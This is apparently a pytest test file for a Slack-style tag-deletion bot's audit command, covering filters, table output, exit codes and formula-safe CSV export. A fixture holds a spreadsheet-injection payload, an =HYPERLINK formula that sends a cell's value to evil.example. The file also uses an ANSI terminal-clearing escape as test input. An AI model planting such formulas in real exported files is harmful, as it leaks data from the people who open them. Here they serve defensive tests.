"""`deletetags-bot audit`: filters, an aligned table, formula-safe CSV, and a real request's whole history."""

from __future__ import annotations

import csv
import io
import logging
from collections.abc import Iterator
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from bot.__main__ import cli
from bot.ops.audit import FORMULA_STARTS, csv_safe
from bot.sandbox.world import World
from bot.store import Store
from tests.e2e.helpers import add_tags, request_to_card

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'



class SetClock:
    def __init__(self) -> None:
        self.now = datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc)

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """Six events over three days, two requests, three actors."""
    path = tmp_path / "audit.db"
    clock = SetClock()
    store = Store(path, clock=clock)
    for day, request_id, actor, kind, detail in (
        (1, 1, "U0RITA", "request.created", {"tags": 2}),
        (1, 1, "U0RITA", "request.confirmed", {"to": "awaiting_approval"}),
        (2, 2, "U0BEA", "request.created", {"tags": 1}),
        (2, 1, "U0ALEX", "request.rejected", {"reason": HYPERLINK, "to": "rejected"}),
        (3, 2, "-1+1", "request.confirmed", {"to": "awaiting_approval"}),
        (3, None, "system", "credentials.saved", {"name": "constant_contact"}),
    ):
        clock.now = datetime(2024, 5, day, 12, 0, tzinfo=timezone.utc)
        store.add_event(request_id, actor, kind, detail)
    store.close()
    return path


def audit(db: Path, *args: str) -> Result:
    result = CliRunner().invoke(cli, ["audit", *args], env={"DELETETAGS_DB": str(db)})
    assert result.exit_code == 0, result.output
    return result


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_table_is_aligned_with_every_event(db: Path) -> None:
    lines = audit(db).stdout.splitlines()
    assert lines[0].split() == ["id", "at", "request", "actor", "kind", "reason", "detail"]
    assert len(lines) == 7
    kind_column = lines[0].index("kind")
    assert {line[kind_column:].split()[0] for line in lines[1:]} == {
        "request.created", "request.confirmed", "request.rejected", "credentials.saved"}
    assert "2024-05-02 12:00:00.000" in lines[4]


def test_filters(db: Path) -> None:
    assert [r["kind"] for r in csv_rows(audit(db, "--csv", "--request", "1").stdout)] == [
        "request.created", "request.confirmed", "request.rejected"]
    assert {r["actor"] for r in csv_rows(audit(db, "--csv", "--actor", "U0RITA", "--actor", "U0BEA").stdout)} == {
        "U0RITA", "U0BEA"}
    assert len(csv_rows(audit(db, "--csv", "--actor", "U0ALEX").stdout)) == 1
    # Dates are whole UTC days, both ends included.
    days = {r["at"][:10] for r in csv_rows(audit(db, "--csv", "--since", "2024-05-02", "--until", "2024-05-02").stdout)}
    assert days == {"2024-05-02"}
    assert len(csv_rows(audit(db, "--csv", "--since", "2024-05-02").stdout)) == 4
    assert len(csv_rows(audit(db, "--csv", "--until", "2024-05-01").stdout)) == 2
    assert audit(db, "--request", "99").stdout == "No audit events match.\n"


def test_csv_is_formula_safe(db: Path) -> None:
    rows = csv_rows(audit(db, "--csv").stdout)
    rejected = next(r for r in rows if r["kind"] == "request.rejected")
    assert rejected["reason"] == "'" + HYPERLINK
    assert next(r for r in rows if r["actor"].endswith("-1+1"))["actor"] == "'-1+1"
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_quoted(cell: str) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "U0RITA", "request.created", "1 = 1", "{\"to\":\"x\"}"])
def test_harmless_cells_are_unchanged(cell: str) -> None:
    assert csv_safe(cell) == cell


def test_control_characters_cannot_reach_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "audit.db"
    store = Store(path)
    store.add_event(1, "U0ALEX", "request.rejected", {"reason": "nope\x1b[2J\nnext line"})
    store.close()
    output = audit(path).stdout
    assert "\x1b" not in output and "\\x1b[2J\\x0anext line" in output


def test_bad_options_and_missing_database(tmp_path: Path, db: Path) -> None:
    missing = CliRunner().invoke(cli, ["audit"], env={"DELETETAGS_DB": str(tmp_path / "none.db")})
    assert missing.exit_code == 1 and "no database at" in missing.output
    assert not (tmp_path / "none.db").exists()
    backwards = CliRunner().invoke(cli, ["audit", "--since", "2024-05-03", "--until", "2024-05-01"],
                                   env={"DELETETAGS_DB": str(db)})
    assert backwards.exit_code == 2 and "--until is before --since" in backwards.output
    not_a_date = CliRunner().invoke(cli, ["audit", "--since", "yesterday"], env={"DELETETAGS_DB": str(db)})
    assert not_a_date.exit_code == 2


def test_audit_csv_lists_every_transition_of_an_approved_request(world: World) -> None:
    spring, = add_tags(world, ("Spring Promo 2024", 120))
    request_id, message = request_to_card(world, f"{spring} reason: campaign over")
    world.driver.click(world.people.approver, message, "Approve")
    world.driver.wait_for(lambda: any(e.kind == "request.approved" for e in world.store.events(request_id)),
                          what="the approval event")
    rows = csv_rows(audit(Path(world.env["DELETETAGS_DB"]), "--csv", "--request", str(request_id)).stdout)
    kinds = [r["kind"] for r in rows]
    for kind in ("request.created", "request.confirmed", "approval.recorded", "request.approved"):
        assert kind in kinds
    assert kinds.index("request.created") < kinds.index("request.confirmed") < kinds.index("request.approved")
    assert {r["request"] for r in rows} == {str(request_id)}
    by_kind = {r["kind"]: r for r in rows}
    assert by_kind["request.created"]["actor"] == world.people.requester
    assert by_kind["request.approved"]["actor"] == world.people.approver
    # The runner may have added batch events since; the audit showed every event up to its moment.
    assert kinds == [e.kind for e in world.store.events(request_id)][: len(kinds)]
